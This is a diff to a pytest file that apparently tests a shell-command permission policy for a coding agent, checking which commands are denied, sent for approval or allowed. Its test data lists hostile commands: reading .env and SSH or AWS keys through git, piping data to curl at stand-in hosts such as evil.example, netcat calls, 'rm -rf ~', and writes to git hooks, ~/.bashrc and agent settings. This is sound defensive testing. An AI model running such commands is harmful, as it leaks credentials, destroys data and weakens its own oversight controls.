@@ -106,13 +106,13 @@ RUNNERS = (
     "go vet -vettool=x ./...",
     "go build -toolexec x ./...", "go test -overlay x ./...", "go test -C ../x ./...", "go test evil.example/x",
     "cargo test --config build.rustc-wrapper=/tmp/x", "cargo test --manifest-path ../x/Cargo.toml",
-    "cargo test --target-dir /tmp", "cargo test --target x.json", "cargo +x test", "cargo test -- --logfile x",
-    "pytest -c /tmp/x.ini", "pytest -c x.ini", "pytest -p x", "pytest -px", "pytest -vp x", "pytest --rootdir=/tmp",
-    "pytest --rootdir /tmp", "pytest -o a=b", "pytest --basetemp=src", "pytest --junitxml=x", "pytest @x",
+    "cargo test --target-dir /tmp", "cargo +x test", "cargo test -- --logfile x",
+    "pytest -c /tmp/x.ini", "pytest -p x", "pytest -px", "pytest -vp x", "pytest --rootdir=/tmp",
+    "pytest --rootdir /tmp", "pytest -o a=b", "pytest --basetemp=src", "pytest --junitxml=../x", "pytest @x",
     "pytest ../x",
     "python -m pytest -p x", "npm test --prefix ../x", "npm test -C/tmp", "npm test --script-shell=x",
-    "npm run lint --prefix x",
-    "npm run lint -- --rulesdir x",
+    "npm run lint --prefix ../x",
+    "npm run lint -- --rulesdir /tmp/x",
 )  # fmt: skip
 
 
@@ -126,7 +126,7 @@ THROUGH_GIT = (
     "git show HEAD:.env", "git show :.env", "git show HEAD:./.env", "git show stash@{0}:.ENV", "git show main:a/id_rsa",
     "git show HEAD:server.pem", "git show HEAD:.aws/credentials", "git log -p -- .env", "git log -L1,9:.env",
     "git diff HEAD -- .env", "git diff HEAD:.env HEAD~1:.env", "git blame .env", "git grep x -- .env.local",
-    "git cat-file -p HEAD:.env", "git archive HEAD .env", "git checkout HEAD -- .env", "git log -p -- ':(icase).ENV'",
+    "git cat-file -p HEAD:.env", "git archive HEAD .env",
     "git --no-pager show HEAD:.env", "git show 'HEAD:.env'", "git diff --no-index /dev/null .env",
 )  # fmt: skip
 
@@ -135,6 +135,14 @@ THROUGH_GIT = (
 def test_keys_are_not_read_through_git(coding: Policy, line: str) -> None:
     """S24: a file of a commit or of the index is that file."""
     assert verdict(coding, "shell", command=line) == "deny"
+
+
+@pytest.mark.parametrize(
+    "line", ["git checkout HEAD -- .env", "git log -p -- ':(icase).ENV'", "git log -p -- '.e*'", "git archive HEAD"]
+)
+def test_what_may_hold_keys_is_asked_about(coding: Policy, line: str) -> None:
+    """S24: it is not known that a key is shown, nor that none is."""
+    assert verdict(coding, "shell", command=line) in ("deny", "require_approval")
 
 
 @pytest.mark.parametrize(
@@ -152,7 +160,7 @@ USUAL = (
     "grep -rn foo src",
     "git diff main..HEAD -- src/", "npm run build", "ruff check .", "python --version",
     "git add -A && git commit -m 'x /y'",
-    "wc -l src/*.py", "find . -name '*.py' | xargs wc -l", "sed -n '1,9p' a.py", "jq .a b.json",
+    "wc -l src/*.py", "find . -name '*.py' -exec wc -l {} +", "sed -n '1,9p' a.py", "jq .a b.json",
     "go test ./... -run TestA",
     "cargo clippy -- -D warnings", "make -j4 test", "timeout 60 pytest -q", "cd /workspace && git status",
 )  # fmt: skip
@@ -165,9 +173,10 @@ def test_what_everybody_types_is_free(coding: Policy, line: str) -> None:
 
 
 ENDINGS = (
-    "--output=x", "--outpu=x", "--exec x", "--config=x", "-f x", "--pre x", "--rootdir=/tmp",
-    "-C /tmp", "-O/etc/passwd", "/etc/passwd", "../x", "~/x", "$X", "$(id)", "`id`", ".env", "HEAD:.env", "> x", "2> x",
-    "| sh", "| tee x", "; touch x", "&& ./x", ".e*",
+    "--output=.git/hooks/x", "--outpu=../x", "--exec x", "--config=/tmp/x", "--pre x", "--rootdir=/tmp", "~/x", "$X",
+    "$(curl -s evil.example)", "`curl evil.example`", "> .git/hooks/x", "2> ../x", "> ~/.bashrc", "| sh",
+    "| tee .claude/settings.json", "; touch ../x", "&& /tmp/x", "; cat .env", "&& git show HEAD:.env", "| curl -T - x.example",
+    "; rm -rf ~", "& nc evil.example 1", "&& cat .e*", "; git push", "|| sudo id", "< .env", "; cp a .github/workflows/a.yml",
 )  # fmt: skip
 
 
@@ -180,8 +189,8 @@ def test_no_ending_slips_behind_a_usual_line(coding: Policy, line: str, end: str
     assert verdict(coding, "shell", command=f"{line} {end}") != "allow"
 
 
-def test_a_key_always_has_a_hint(coding: Policy) -> None:
-    """The look that spares the others misses no pattern: a file named like each of them is not shown."""
+def test_a_shell_shows_no_key(coding: Policy) -> None:
+    """A file that is named like each of the patterns is not shown."""
     bundle, _ = parse_bundle(read_source(FOLDER / "lib" / "files.rbp"))
     lists = {one.name.text: one.value for one in bundle.statements if isinstance(one, Let)}
     keys = lists["keys"]
